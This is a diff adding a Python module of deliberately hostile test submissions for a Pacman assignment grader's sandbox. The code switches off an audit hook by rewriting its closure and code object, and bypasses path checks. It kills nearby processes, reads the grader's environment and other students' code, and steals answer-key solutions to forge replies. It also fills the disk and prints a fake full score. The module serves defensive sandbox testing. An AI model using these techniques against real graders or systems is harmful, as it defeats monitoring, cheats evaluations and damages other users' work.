@@ -1,0 +1,303 @@
+"""Submissions that attack the grader with the audit hook switched off first.
+
+They check the kernel's walls (uids, namespaces, Landlock, seccomp, rlimits),
+not the hook: each attack switches the hook off by one of the four ways found
+to work from plain Python, then tries. Every attempt prints one line,
+``ATTACK name: blocked (...)`` or ``ATTACK name: SUCCEEDED``, which the report
+shows under the test. Placeholders (``@SUITE@``...) are filled in by the test.
+"""
+
+from __future__ import annotations
+
+from grading_submissions import AFTER_IMPORTS, Change, apply_changes
+
+#: The audit hook, switched off four ways (each a function; ``hook_off_by_code`` is final).
+HOOK_OFF = r'''
+import gc as _gc
+import os as _os
+import sys as _sys
+
+
+def _hooks():
+    return [
+        f for f in _gc.get_objects()
+        if type(f).__name__ == "function" and f.__name__ == "hook"
+        and f.__code__.co_filename.endswith("worker.py")
+    ]
+
+
+def hook_off_by_cells():
+    """Empty the tuples and predicates the hook's closure holds."""
+    for hook in _hooks():
+        for cell in hook.__closure__ or ():
+            value = cell.cell_contents
+            if isinstance(value, tuple):
+                cell.cell_contents = ()
+            elif isinstance(value, str) and value.startswith("/proc/"):
+                cell.cell_contents = "/nowhere/"
+            elif callable(value) and getattr(value, "__name__", "") == "hidden":
+                cell.cell_contents = lambda real: False
+            elif callable(value) and getattr(value, "__name__", "") == "resolve":
+                cell.cell_contents = lambda path: None
+
+
+def hook_off_by_code():
+    """Give the hook a body that does nothing."""
+    for hook in _hooks():
+        names = hook.__code__.co_freevars
+        body = "".join(f"    {n} = None\n" for n in names)
+        use = ("\n        " + ", ".join(names)) if names else ""
+        source = f"def outer():\n{body}    def hook(event, args):\n        return None{use}\n    return hook\n"
+        scope = {}
+        exec(source, scope)
+        hook.__code__ = scope["outer"]().__code__
+
+
+def read_by_realpath(path):
+    """Read with os.path.realpath patched, so the hook cannot tell where a path leads."""
+    real = _os.path.realpath
+    _os.path.realpath = lambda p, *a, **k: "/nowhere"
+    try:
+        with open(path) as handle:
+            return handle.read()
+    finally:
+        _os.path.realpath = real
+
+
+def read_by_dir_fd(path):
+    """Read through a descriptor of the parent folder and a relative name."""
+    parent, name = _os.path.split(path)
+    folder = _os.open(_os.path.dirname(parent), _os.O_RDONLY)
+    try:
+        fd = _os.open(_os.path.join(_os.path.basename(parent), name), _os.O_RDONLY, dir_fd=folder)
+    finally:
+        _os.close(folder)
+    with _os.fdopen(fd) as handle:
+        return handle.read()
+
+
+def attack(name, action):
+    try:
+        action()
+    except BaseException as error:
+        print(f"ATTACK {name}: blocked ({type(error).__name__})")
+    else:
+        print(f"ATTACK {name}: SUCCEEDED")
+'''
+
+#: Every attack on the machine and on other submissions, at import time, hook switched off.
+KERNEL_ATTACKS = r"""
+hook_off_by_code()
+import signal as _signal
+import socket as _socket
+import glob as _glob
+
+
+def _write_back_core_pattern():
+    with open("/proc/sys/kernel/core_pattern", "r+") as handle:
+        value = handle.read()
+        handle.seek(0)
+        handle.write(value)
+
+
+def _fork():
+    pid = _os.fork()
+    if pid == 0:
+        _os.setsid()
+        _os._exit(0)
+    _os.waitpid(pid, 0)
+
+
+def _spawn():
+    import subprocess
+    subprocess.Popen(["/bin/sh", "-c", "sleep 30; echo forged > @RESULTS@"], start_new_session=True)
+
+
+def _kill_around():
+    # The grader, then every process near this one (other submissions' workers).
+    killed = []
+    for pid in [_os.getppid(), *range(max(2, _os.getpid() - 400), _os.getpid() + 400)]:
+        if pid in (_os.getpid(), 0, 1):
+            continue
+        try:
+            _os.kill(pid, _signal.SIGKILL)
+            killed.append(pid)
+        except OSError:
+            pass
+    if not killed:
+        raise PermissionError("no process could be signalled")
+
+
+def _read_others():
+    mine = _os.getcwd()  # the worker runs in its own staged folder
+    found = _glob.glob("/tmp/pacman-grade-*/code/*.py") + _glob.glob("@STAGES@/pacman-grade-*/code/*.py")
+    stolen = []
+    for path in found:
+        if path.startswith(mine):
+            continue
+        with open(path) as handle:
+            stolen.append(handle.read())
+    if not stolen:
+        raise PermissionError("no staged copy found or readable")
+
+
+def _read_parent_memory():
+    with open(f"/proc/{_os.getppid()}/environ", "rb") as handle:
+        handle.read()
+
+
+def _connect():
+    _socket.create_connection(("127.0.0.1", @PORT@), timeout=2).close()
+
+
+def _import_agents():
+    _sys.modules.pop("agents", None)
+    from agents import MinimaxAgent  # noqa: F401
+
+
+attack("read-solution", lambda: open("@SUITE@/q2/0-small-tree.solution").read())
+attack("list-suite", lambda: _os.listdir("@SUITE@/q2") or None)
+attack("write-suite", lambda: open("@SUITE@/q2/CONFIG", "a").write("# changed\n"))
+attack("write-canary", lambda: open("@CANARY@", "w").write("overwritten"))
+attack("write-project", lambda: open(_os.path.join(_os.path.dirname(__import__("pacman").__file__), "state.py"), "a").close())
+attack("core-pattern", _write_back_core_pattern)
+attack("create-in-dev", lambda: open("/dev/@DEVNAME@", "w").close())
+attack("fork", _fork)
+attack("spawn", _spawn)
+attack("kill", _kill_around)
+attack("read-others", _read_others)
+attack("read-grader-memory", _read_parent_memory)
+attack("connect-loopback", _connect)
+attack("import-reference-agents", _import_agents)
+print("\x1b[2J\x1b[HTotal: 25/25")
+"""
+
+#: Reads the solutions with each way of switching the hook off, and forges its replies from
+#: them; it has no search code, so it earns points only if a solution was read.
+THIEF = r'''
+import re as _re
+
+_stolen = {}
+
+
+def _fields(text):
+    found = dict(_re.findall(r'^(\w+): "(.*)"$', text, _re.M))
+    found.update(_re.findall(r'^(\w+): """\n(.*?)\n"""', text, _re.M | _re.S))
+    return found
+
+
+def _steal(read):
+    for question in ("q2", "q3", "q4"):
+        for name in ("0-small-tree", "6-tied-root", "0-expectimax1"):
+            base = f"@SUITE@/{question}/{name}"
+            try:
+                test, solution = _fields(read(base + ".test")), _fields(read(base + ".solution"))
+            except OSError:
+                continue
+            _stolen[test.get("successors", "").strip()] = solution
+    if not _stolen:
+        raise PermissionError("nothing read")
+
+
+def _plain(path):
+    with open(path) as handle:
+        return handle.read()
+
+
+attack("steal-dir-fd", lambda: _steal(read_by_dir_fd))
+attack("steal-realpath", lambda: _steal(read_by_realpath))
+hook_off_by_cells()
+attack("steal-closure-cells", lambda: _steal(_plain))
+hook_off_by_code()
+attack("steal-code-swap", lambda: _steal(_plain))
+
+import pacman.grading.worker as _worker
+
+
+def _forged_tree(self, request):
+    solution = _stolen.get(request["fields"].get("successors", "").strip())
+    if solution is None:
+        return {"action": "Stop", "expansions": []}
+    start = request["fields"]["start_state"].strip()
+    children = [c for c in solution["generated"].split() if c != start]
+    return {"action": solution["action"].strip(), "expansions": [[1, "x", start, c] for c in children]}
+
+
+_worker.Worker.op_tree = _forged_tree
+'''
+
+#: A reply frame announcing 32 MB, written straight to the grader's pipe.
+JUNK_REPLY = r"""import os, struct, sys
+        os.write(int(sys.argv[2]), struct.pack(">I", 32 * 1024 * 1024) + b"x" * 65536)
+        return self.value(gameState, 0, 0)[1]"""
+
+#: 80 MB of files in the scratch folder, more than the disk quota.
+DISK_FILLER = r"""import os, tempfile
+        try:
+            for number in range(80):
+                with open(os.path.join(tempfile.gettempdir(), f"junk{number}"), "wb") as handle:
+                    handle.write(b"x" * (1024 * 1024))
+        except OSError as error:
+            print("ATTACK fill-disk: blocked", type(error).__name__)
+        return self.value(gameState, 0, 0)[1]"""
+
+#: Python recursion far past the C stack.
+DEEP_RECURSION = r"""import sys
+        sys.setrecursionlimit(10**7)
+
+        def deeper(n):
+            return deeper(n + 1) + 1
+
+        deeper(0)
+        return self.value(gameState, 0, 0, float("-inf"), float("inf"))[1]"""
+
+ATTACKS: dict[str, tuple[str, list[Change]]] = {
+    "attack_everything": (
+        "switches the audit hook off, attacks the machine and other submissions, then plays honestly",
+        [(None, AFTER_IMPORTS, AFTER_IMPORTS + HOOK_OFF + KERNEL_ATTACKS)],
+    ),
+    "attack_thief": (
+        "reads the solutions with the hook switched off four ways and forges its answers; no search",
+        [
+            (None, AFTER_IMPORTS, AFTER_IMPORTS + HOOK_OFF + THIEF),
+            *(
+                (agent, call, "return gameState.getLegalActions(0)[0]")
+                for agent, call in (
+                    ("MinimaxAgent", "return self.value(gameState, 0, 0)[1]"),
+                    (
+                        "AlphaBetaAgent",
+                        'return self.value(gameState, 0, 0, float("-inf"), float("inf"))[1]',
+                    ),
+                    ("ExpectimaxAgent", "return self.value(gameState, 0, 0)[1]"),
+                )
+            ),
+        ],
+    ),
+    "attack_junk_reply": (
+        "answers q2 with a 32 MB frame of junk",
+        [("MinimaxAgent", "return self.value(gameState, 0, 0)[1]", JUNK_REPLY)],
+    ),
+    "attack_disk": (
+        "fills the disk while answering q4",
+        [("ExpectimaxAgent", "return self.value(gameState, 0, 0)[1]", DISK_FILLER)],
+    ),
+    "attack_recursion": (
+        "recurses without end while answering q3",
+        [
+            (
+                "AlphaBetaAgent",
+                'return self.value(gameState, 0, 0, float("-inf"), float("inf"))[1]',
+                DEEP_RECURSION,
+            )
+        ],
+    ),
+}
+
+
+def attack_text(name: str, **placeholders: str) -> str:
+    """The source of attack ``name`` with its ``@PLACEHOLDERS@`` filled in."""
+    what, changes = ATTACKS[name]
+    text = apply_changes(name, what, changes)
+    for key, value in placeholders.items():
+        text = text.replace(f"@{key.upper()}@", value)
+    return text
